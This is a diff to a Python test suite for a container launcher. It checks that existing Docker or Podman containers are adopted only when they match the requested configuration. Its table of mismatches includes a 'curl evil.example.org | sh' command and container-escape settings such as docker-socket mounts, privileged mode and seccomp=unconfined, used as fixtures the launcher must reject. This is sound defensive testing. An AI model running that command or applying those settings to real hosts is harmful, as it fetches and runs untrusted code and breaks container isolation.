@@ -18,6 +18,7 @@ from dataclasses import replace
 from ipaddress import ip_network
 from pathlib import Path
 from typing import Any
+from urllib.parse import parse_qs
 
 import pytest
 
@@ -587,10 +588,38 @@ def test_a_name_that_is_bound_again_is_never_followed() -> None:
 # ── containers ───────────────────────────────────────────────────────────────────────────────────────────────────
 
 
+IMAGE_ID = f"sha256:{'cd' * 32}"
+OF_IMAGE = {
+    "Entrypoint": ["tini", "-g", "--"],
+    "User": "jovyan",
+    "Volumes": {"/data": {}},
+    "WorkingDir": "/home/jovyan",
+}
+
+
 def inspected(**changes: Any) -> bytes:
-    labels = dict(a_specification().labels) | changes.pop("labels", {})
+    """What Docker 20.10 says of the container of `a_specification`; `host`, `config`, `mounts` change parts of it."""
+    spec = a_specification()
+    labels = dict(spec.labels) | changes.pop("labels", {})
     state = {"Status": "running", "Running": True, "ExitCode": 0, "OOMKilled": False} | changes.pop("state", {})
-    return of_json({"Id": CONTAINER_ID, "State": state, "Config": {"Labels": labels}, **changes})
+    config = {"Labels": labels, "Image": IMAGE, "Cmd": list(spec.command), **OF_IMAGE} | changes.pop("config", {})
+    host = DOCKERS_WORDS | changes.pop("host", {})
+    mounts = changes.pop("mounts", [OUR_MOUNT])
+    found = {"Id": CONTAINER_ID, "Image": IMAGE_ID, "State": state, "Config": config, "HostConfig": host}
+    return of_json({**found, "Mounts": mounts, **changes})
+
+
+OUR_MOUNT: dict[str, object] = {
+    "Type": "volume", "Name": f"homeport-{a_session().sid}", "Source": "/var/lib/docker/volumes/x/_data",
+    "Destination": "/home/jovyan", "Driver": "local", "Mode": "z", "RW": True, "Propagation": "",
+}  # fmt: skip
+DOCKERS_WORDS: dict[str, object] = {
+    "Binds": None, "NetworkMode": "default", "PortBindings": {"8888/tcp": [{"HostIp": LOOPBACK, "HostPort": ""}]},
+    "RestartPolicy": {"Name": "no", "MaximumRetryCount": 0}, "VolumesFrom": None, "CapAdd": None, "IpcMode": "private",
+    "PidMode": "", "Privileged": False, "PublishAllPorts": False, "SecurityOpt": None, "UTSMode": "", "UsernsMode": "",
+    "Memory": 0, "NanoCpus": 0, "CpuPeriod": 0, "CpuQuota": 0, "Devices": None, "DeviceCgroupRules": None,
+    "DeviceRequests": None, "Mounts": [{"Type": "volume", "Source": "x", "Target": "/home/jovyan"}],
+}  # fmt: skip
 
 
 def ports(*bindings: object) -> dict[str, object]:
@@ -697,13 +726,158 @@ def conflicting(existing: bytes) -> dict[str, Answer]:
     return {
         "POST /containers/create": refusal(409, f'Conflict. The container name "/{name}" is already in use'),
         f"GET /containers/{name}/json": existing,
+        f"GET /images/{IMAGE}/json": of_json({"Id": IMAGE_ID, "Config": OF_IMAGE}),
     }
 
 
-def test_a_container_that_is_there_with_our_labels_is_adopted(pki: Pki) -> None:
-    with HostileEngine(pki, conflicting(inspected())) as engine, an_endpoint(engine) as endpoint:
-        endpoint.create(a_specification())
-        assert engine.asked("POST") == ["/containers/create"]
+def is_adopted(pki: Pki, existing: bytes, spec: Specification, taken: bytes | None = None) -> bool:
+    """Create what is there already, and say whether it is adopted or, without its volume, replaced."""
+    taken = taken or http(b'{"message": "Conflict"}', status=409, headers=[("Connection", "close")])
+    creations = iter([taken, http(b'{"Id": "x"}', status=201, headers=[("Connection", "close")])])
+    answers = conflicting(existing) | {
+        "POST /containers/create": lambda connection: connection.send(next(creations)),
+        f"GET /containers/{CONTAINER_ID}/json": NOT_FOUND,
+        f"POST /containers/{CONTAINER_ID}/stop": http(status=204),
+        f"DELETE /containers/{CONTAINER_ID}": http(status=204),
+    }
+    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
+        endpoint.create(spec)
+        posted, deleted = engine.asked("POST"), [request for request in engine.heard if request.method == "DELETE"]
+    if posted == ["/containers/create"]:
+        assert deleted == []
+        return True
+    assert posted == ["/containers/create", f"/containers/{CONTAINER_ID}/stop", "/containers/create"]
+    assert "v=False" in deleted[0].path
+    return False
+
+
+PODMANS_HOST: dict[str, object] = {
+    "NetworkMode": "bridge", "PortBindings": {"8888/tcp": [{"HostIp": LOOPBACK, "HostPort": "39733"}]}, "CapAdd": [],
+    "IpcMode": "shareable", "PidMode": "private", "UTSMode": "private", "SecurityOpt": [], "Devices": [],
+    "Binds": [f"homeport-{a_session().sid}:/home/jovyan:rw,rprivate,nosuid,nodev,rbind"], "Mounts": None,
+}  # fmt: skip
+OLD_DOCKERS_HOST: dict[str, object] = {
+    "Binds": [f"homeport-{a_session().sid}:/home/jovyan:rw"], "Mounts": None, "IpcMode": "", "DeviceRequests": None
+}  # fmt: skip
+ENGINES: dict[str, dict[str, Any]] = {
+    "docker 20.10": {},
+    "docker 27": {"host": {"NetworkMode": "bridge", "Devices": [], "CapAdd": [], "SecurityOpt": []}},
+    "docker 1.12": {"host": OLD_DOCKERS_HOST, "mounts": [{k: v for k, v in OUR_MOUNT.items() if k != "Type"}]},
+    "podman 4.3": {"host": PODMANS_HOST, "config": {"Image": f"docker.io/{IMAGE}"}},
+    "an image with a volume of its own": {
+        "mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "0" * 64, "Destination": "/data"}]
+    },
+    "an image whose tag has moved": {"Image": f"sha256:{'ef' * 32}"},
+}
+
+
+@pytest.mark.parametrize("engine", ENGINES)
+def test_a_container_that_is_there_and_is_what_was_asked_for_is_adopted(pki: Pki, engine: str) -> None:
+    assert is_adopted(pki, inspected(**ENGINES[engine]), a_specification())
+
+
+@pytest.mark.parametrize(
+    ("limits", "host"),
+    [
+        (Limits(memory=1 << 30), {"Memory": 1 << 30}),
+        (Limits(cpus=1.5), {"CpuPeriod": 100_000, "CpuQuota": 150_000}),
+        (Limits(cpus=1.5), {"CpuPeriod": 50_000, "CpuQuota": 75_000}),
+        (Limits(cpus=1.5), {"NanoCpus": 1_500_000_000}),
+        (Limits(cpus=1.5), {"NanoCpus": 1_500_000_000, "CpuPeriod": 100_000, "CpuQuota": 150_000}),
+        (Limits(gpus=-1), {"DeviceRequests": [{"Driver": "", "Count": -1, "Capabilities": [["gpu"]]}]}),
+        (Limits(gpus=2), {"DeviceRequests": [{"Count": 2, "Capabilities": [["gpu"]], "Options": {}}]}),
+    ],
+)  # fmt: skip
+def test_a_container_with_the_limits_that_were_asked_for_is_adopted_and_without_them_is_not(
+    pki: Pki, limits: Limits, host: dict[str, object]
+) -> None:
+    limited = a_specification(session={"limits": limits})
+    assert is_adopted(pki, inspected(host=host), limited)
+    assert not is_adopted(pki, inspected(), limited)
+    assert not is_adopted(pki, inspected(host=host), a_specification())
+
+
+@pytest.mark.parametrize("address", ["", "0.0.0.0", "::", None])
+def test_a_port_that_is_published_on_every_address_is_adopted_if_that_was_asked_for(pki: Pki, address: object) -> None:
+    everywhere = inspected(host={"PortBindings": {"8888/tcp": [{"HostIp": address, "HostPort": "32768"}]}})
+    assert is_adopted(pki, everywhere, a_specification(publish_address=""))
+    assert not is_adopted(pki, everywhere, a_specification())
+    assert not is_adopted(pki, inspected(), a_specification(publish_address=""))
+
+
+def bound(folder: str, **changes: object) -> dict[str, object]:
+    return {"Type": "bind", "Source": "/", "Destination": folder, "Mode": "", "RW": True, **changes}
+
+
+DIFFERENT: dict[str, dict[str, Any]] = {
+    "image": {"config": {"Image": "evil:latest"}, "Image": f"sha256:{'ef' * 32}"},
+    "image left out": {"config": {"Image": None}, "Image": None},
+    "command": {"config": {"Cmd": ["sh", "-c", "curl evil.example.org | sh"]}},
+    "more command": {"config": {"Cmd": ["jupyter", "lab", "--no-browser", "--ServerApp.token="]}},
+    "no command": {"config": {"Cmd": None}},
+    "command in one": {"config": {"Cmd": "jupyter lab --no-browser"}},
+    "entrypoint": {"config": {"Entrypoint": ["sh"]}},
+    "no entrypoint": {"config": {"Entrypoint": None}},
+    "strange entrypoint": {"config": {"Entrypoint": {"0": "tini"}}},
+    "user": {"config": {"User": "root"}},
+    "no mount": {"mounts": []},
+    "mounts left out": {"mounts": None},
+    "strange mounts": {"mounts": ["/"]},
+    "host folder for the volume": {"mounts": [bound("/home/jovyan")]},
+    "host folder with the volume's name": {"mounts": [bound("/home/jovyan", Name=OUR_MOUNT["Name"])]},
+    "host folder beside it": {"mounts": [OUR_MOUNT, bound("/host")]},
+    "engine's socket beside it": {"mounts": [OUR_MOUNT, bound("/run/docker.sock", Source="/run/docker.sock")]},
+    "another volume": {"mounts": [OUR_MOUNT | {"Name": "homeport-another"}]},
+    "another volume beside it": {"mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "another", "Destination": "/data"}]},
+    "anonymous volume of nobody's": {"mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "0" * 64, "Destination": "/etc"}]},
+    "strange folder": {"mounts": [OUR_MOUNT, OUR_MOUNT | {"Name": "0" * 64, "Destination": ["/data"]}]},
+    "volume elsewhere": {"mounts": [OUR_MOUNT | {"Destination": "/elsewhere"}]},
+    "volume to be read alone": {"mounts": [OUR_MOUNT | {"RW": False}]},
+    "memory in its place": {"host": {"Tmpfs": {"/home/jovyan": ""}}},
+    "another container's volumes": {"host": {"VolumesFrom": ["another"]}},
+    "privileged": {"host": {"Privileged": True}},
+    "capability": {"host": {"CapAdd": ["SYS_ADMIN"]}},
+    "device": {"host": {"Devices": [{"PathOnHost": "/dev/sda"}]}},
+    "device rule": {"host": {"DeviceCgroupRules": ["a *:* rwm"]}},
+    "security option": {"host": {"SecurityOpt": ["seccomp=unconfined"]}},
+    "host's network": {"host": {"NetworkMode": "host"}},
+    "another container's network": {"host": {"NetworkMode": "container:another"}},
+    "another network": {"host": {"NetworkMode": "intranet"}},
+    "strange network": {"host": {"NetworkMode": ["default"]}},
+    "host's processes": {"host": {"PidMode": "host"}},
+    "host's memory": {"host": {"IpcMode": "host"}},
+    "host's name": {"host": {"UTSMode": "host"}},
+    "host's users": {"host": {"UsernsMode": "host"}},
+    "restarts": {"host": {"RestartPolicy": {"Name": "always"}}},
+    "no port": {"host": {"PortBindings": {}}},
+    "strange ports": {"host": {"PortBindings": {"8888/tcp": [8888]}}},
+    "another port": {"host": {"PortBindings": {"22/tcp": [{"HostIp": LOOPBACK, "HostPort": ""}]}}},
+    "two ports": {"host": {"PortBindings": {port: [{"HostIp": LOOPBACK}] for port in ("8888/tcp", "22/tcp")}}},
+    "port twice": {"host": {"PortBindings": {"8888/tcp": [{"HostIp": LOOPBACK}, {"HostIp": "203.0.113.7"}]}}},
+    "port of every address": {"host": {"PortBindings": {"8888/tcp": [{"HostIp": "0.0.0.0", "HostPort": ""}]}}},
+    "all ports": {"host": {"PublishAllPorts": True}},
+    "memory": {"host": {"Memory": 1 << 30}},
+    "CPUs": {"host": {"CpuQuota": 1000}},
+    "nano CPUs": {"host": {"NanoCpus": 1_000_000_000}},
+    "strange CPUs": {"host": {"CpuQuota": [1]}},
+    "GPUs": {"host": {"DeviceRequests": [{"Count": -1, "Capabilities": [["gpu"]]}]}},
+    "strange GPUs": {"host": {"DeviceRequests": "all"}},
+    "nothing of it": {"host": {"PortBindings": None}, "config": {"Cmd": None, "Image": None}, "mounts": 7},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("different", DIFFERENT)
+def test_a_container_with_our_labels_that_is_not_what_was_asked_for_is_replaced(pki: Pki, different: str) -> None:
+    assert not is_adopted(pki, inspected(**DIFFERENT[different]), a_specification())
+
+
+def test_podmans_words_for_a_name_that_is_taken_are_understood(pki: Pki) -> None:
+    words = (
+        f'creating container storage: the container name "{NAME}" is already in use by {CONTAINER_ID}. You have to …'
+    )
+    taken = json.dumps({"cause": "that name is already in use", "message": words, "response": 500}).encode()
+    answer = http(taken, status=500, headers=[("Connection", "close")])
+    assert is_adopted(pki, inspected(), a_specification(), answer)
 
 
 @pytest.mark.parametrize(
@@ -727,24 +901,7 @@ LOST: tuple[dict[str, object], ...] = (
 def test_a_container_of_another_launch_that_was_lost_is_replaced_and_its_volume_stays(
     pki: Pki, labels: dict[str, object]
 ) -> None:
-    taken = http(b'{"message": "Conflict"}', status=409, headers=[("Connection", "close")])
-    creations = iter([taken, http(b'{"Id": "x"}', status=201, headers=[("Connection", "close")])])
-    answers: dict[str, Answer] = {
-        "POST /containers/create": lambda connection: connection.send(next(creations)),
-        f"GET /containers/{a_specification().name}/json": inspected(labels=labels),
-        f"GET /containers/{CONTAINER_ID}/json": NOT_FOUND,
-        f"POST /containers/{CONTAINER_ID}/stop": http(status=204),
-        f"DELETE /containers/{CONTAINER_ID}": http(status=204),
-    }
-    with HostileEngine(pki, answers) as engine, an_endpoint(engine) as endpoint:
-        endpoint.create(a_specification())
-        assert engine.asked("POST") == [
-            "/containers/create",
-            f"/containers/{CONTAINER_ID}/stop",
-            "/containers/create",
-        ]
-        (deleted,) = [request for request in engine.heard if request.method == "DELETE"]
-        assert "v=False" in deleted.path
+    assert not is_adopted(pki, inspected(labels=labels), a_specification())
 
 
 def test_a_container_of_a_lost_launch_that_comes_back_again_and_again_ends_at_the_deadline(pki: Pki) -> None:
@@ -874,6 +1031,73 @@ def test_an_impossible_id_is_not_put_into_a_path(pki: Pki) -> None:
     with HostileEngine(pki, answers) as engine:
         assert code_of(an_endpoint(engine), lambda endpoint: endpoint.remove(OURS)) == "not-a-docker-engine"
         assert {request.method for request in engine.heard} == {"GET"}
+
+
+# ── what is left of launches ─────────────────────────────────────────────────────────────────────────────────────────
+
+LIST = "GET /containers/json"
+
+
+def listed(**changes: Any) -> dict[str, object]:
+    """What an engine lists of the container of `a_specification`; `labels` changes some of its labels."""
+    labels = dict(a_specification().labels) | changes.pop("labels", {})
+    return {"Id": CONTAINER_ID, "Names": [f"/{OURS}"], "Image": IMAGE, "State": "exited", "Labels": labels, **changes}
+
+
+def launches_in(pki: Pki, answer: Answer) -> list[tuple[str, int]]:
+    with HostileEngine(pki, {LIST: answer}) as engine, an_endpoint(engine) as endpoint:
+        return endpoint.launches(a_session().owner)
+
+
+def test_what_is_left_is_asked_for_by_the_labels_of_hub_and_owner(pki: Pki) -> None:
+    with HostileEngine(pki, {LIST: of_json([listed()])}) as engine, an_endpoint(engine) as endpoint:
+        assert endpoint.launches(a_session().owner) == [(a_session().sid, 1)]
+        asked = parse_qs(engine.heard[-1].path.partition("?")[2])
+    assert (asked["all"], asked["limit"]) == (["1"], ["50"])
+    assert json.loads(asked["filters"][0]) == {
+        "label": ["homeport.hub=hub", f"homeport.owner={a_session().owner}"],
+    }
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"labels": {"homeport.hub": "other"}},
+        {"labels": {"homeport.hub": None}},
+        {"labels": {"homeport.owner": "cd" * 32}},
+        {"labels": {"homeport.session": "production-database"}},
+        {"labels": {"homeport.session": "0" * 20}},
+        {"labels": {"homeport.session": ["x"]}},
+        {"labels": {"homeport.generation": "2"}},
+        {"labels": {"homeport.generation": "01"}},
+        {"labels": {"homeport.generation": "٣"}},
+        {"labels": {"homeport.generation": "1" * 4000}},
+        {"labels": {"homeport.generation": 1}},
+        {"Labels": None},
+        {"Labels": "homeport.hub"},
+        {"Names": ["/production-database"]},
+        {"Names": [f"/other/{OURS}"]},
+        {"Names": f"/{OURS}"},
+        {"Names": [["x"]]},
+        {"Names": None},
+        {"Names": []},
+    ],
+)
+def test_what_an_engine_lists_without_all_our_labels_and_their_name_is_passed_over(
+    pki: Pki, changes: dict[str, Any]
+) -> None:
+    theirs = listed(**changes)
+    assert launches_in(pki, of_json([theirs, 7, None, "x", [], {}, listed(Names=[OURS])])) == [(a_session().sid, 1)]
+
+
+def test_no_more_than_fifty_of_what_an_engine_lists_are_looked_at(pki: Pki) -> None:
+    assert len(launches_in(pki, of_json([listed()] * 2000))) == 50
+
+
+@pytest.mark.parametrize("answer", [of_json({}), of_json(7), of_json(None), http(b"["), http(b"[" * 1_000_000)])
+def test_a_list_that_is_none_is_misbehaviour(pki: Pki, answer: bytes) -> None:
+    listing = lambda endpoint: endpoint.launches(a_session().owner)  # noqa: E731
+    assert code_with(pki, {LIST: answer}, listing) == "not-a-docker-engine"
 
 
 def frame(text: bytes, kind: int = 1) -> bytes:
